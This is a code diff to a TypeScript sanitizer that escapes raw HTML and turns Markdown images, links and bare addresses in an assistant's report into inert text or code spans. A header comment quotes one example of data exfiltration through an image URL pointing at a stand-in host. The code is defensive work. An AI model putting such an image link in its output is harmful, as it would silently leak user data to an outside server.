@@ -1,7 +1,10 @@
 // The assistant's Markdown, made safe for reports. HTML: parsed (CommonMark + GFM), raw HTML
 // turned into visible text, links reduced to their text and images to "[image: alt]" (a report
 // makes no requests and has no outgoing links), then serialised by hast-util-to-html.
-// Markdown and notebook cells: the same text with only its raw HTML escaped.
+// Markdown and notebook cells: the same source with raw HTML escaped, images as "[image: alt]"
+// text and links as their text followed by the address in a code span (visible, never live), so
+// a viewer fetches nothing the model named (`![x](http://host/?total=…)` would tell a server the
+// data). Only the figures the app itself writes next to the report stay images.
 import { toHtml } from 'hast-util-to-html';
 import type { Nodes, Parents, Root, RootContent } from 'mdast';
 import { fromMarkdown } from 'mdast-util-from-markdown';
@@ -77,4 +80,86 @@ export function escapeRawHtml(markdown: string): string {
     out = out.slice(0, start) + out.slice(start, end).replace(/</g, '&lt;') + out.slice(end);
   }
   return out;
+}
+
+/** Inline Markdown text, shown literally: punctuation escaped, on one line. */
+function literal(text: string): string {
+  return text.replace(/\s+/g, ' ').replace(/[\\`*_[\]<>|~&!]/g, (c) => `\\${c}`);
+}
+
+/** A code span holding `text` whatever backticks it contains (and no table pipe). */
+function codeSpan(text: string): string {
+  const value = text.replace(/\s+/g, ' ').replace(/\|/g, '%7C');
+  const longest = Math.max(0, ...[...value.matchAll(/`+/g)].map((m) => m[0].length));
+  const fence = '`'.repeat(longest + 1);
+  const pad = value.startsWith('`') || value.endsWith('`') ? ' ' : '';
+  return `${fence}${pad}${value}${pad}${fence}`;
+}
+
+/** What GFM would turn into a link by itself: bare addresses and e-mail addresses. */
+const ADDRESS = /(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:)[^\s<>`]*|[\w.+-]+@[\w-]+(?:\.[\w-]+)+/gi;
+
+/** Text shown as it is, any address in it as code (never a link). */
+function inert(text: string, escape: (s: string) => string): string {
+  let out = '';
+  let last = 0;
+  for (const m of text.matchAll(ADDRESS)) {
+    out += escape(text.slice(last, m.index)) + codeSpan(m[0]);
+    last = m.index + m[0].length;
+  }
+  return out + escape(text.slice(last));
+}
+
+const LIVE = new Set(['html', 'image', 'imageReference', 'link', 'linkReference', 'definition']);
+
+function neutraliseOnce(markdown: string): { text: string; changed: boolean } {
+  const edits: { start: number; end: number; text: string }[] = [];
+  const visit = (node: Nodes) => {
+    if (!LIVE.has(node.type)) {
+      if ('children' in node) node.children.forEach((c) => visit(c));
+      return;
+    }
+    const start = node.position?.start.offset;
+    const end = node.position?.end.offset;
+    if (start === undefined || end === undefined) return;
+    const source = markdown.slice(start, end);
+    const label = plainText(node).trim();
+    let text = '';
+    if (node.type === 'html') text = inert(source, (s) => s.replace(/</g, '&lt;'));
+    else if (node.type === 'image' || node.type === 'imageReference')
+      text = inert(label ? `[image: ${label}]` : '[image]', literal);
+    else if (node.type === 'link' && !source.startsWith('['))
+      text = codeSpan(source.replace(/^<|>$/g, '')); // an autolink: the address, as code
+    else if (node.type === 'link') text = `${inert(label || 'link', literal)} (${codeSpan(node.url)})`;
+    else if (node.type === 'linkReference') text = inert(label || 'link', literal);
+    edits.push({ start, end, text });
+  };
+  visit(parseMarkdown(markdown));
+  let text = markdown;
+  for (const e of edits.sort((a, b) => b.start - a.start))
+    text = text.slice(0, e.start) + e.text + text.slice(e.end);
+  return { text, changed: edits.length > 0 };
+}
+
+/**
+ * The Markdown source with raw HTML escaped, images turned into "[image: alt]" text, links into
+ * their text plus their address as code, bare addresses into code, and link definitions
+ * removed: nothing a viewer would load or follow. Code blocks and code spans stay as they were.
+ * Done again on its own result until nothing live is left (an edit could form a new link).
+ */
+export function neutraliseMarkdown(markdown: string): string {
+  let text = markdown;
+  for (let i = 0; i < 4; i++) {
+    const once = neutraliseOnce(text);
+    if (!once.changed) return text;
+    text = once.text;
+  }
+  // still something live after four rounds: give it as plain text, nothing of it can load
+  return fencedText(text);
+}
+
+function fencedText(text: string): string {
+  const longest = Math.max(2, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
+  const fence = '`'.repeat(longest + 1);
+  return `${fence}text\n${text}\n${fence}`;
 }
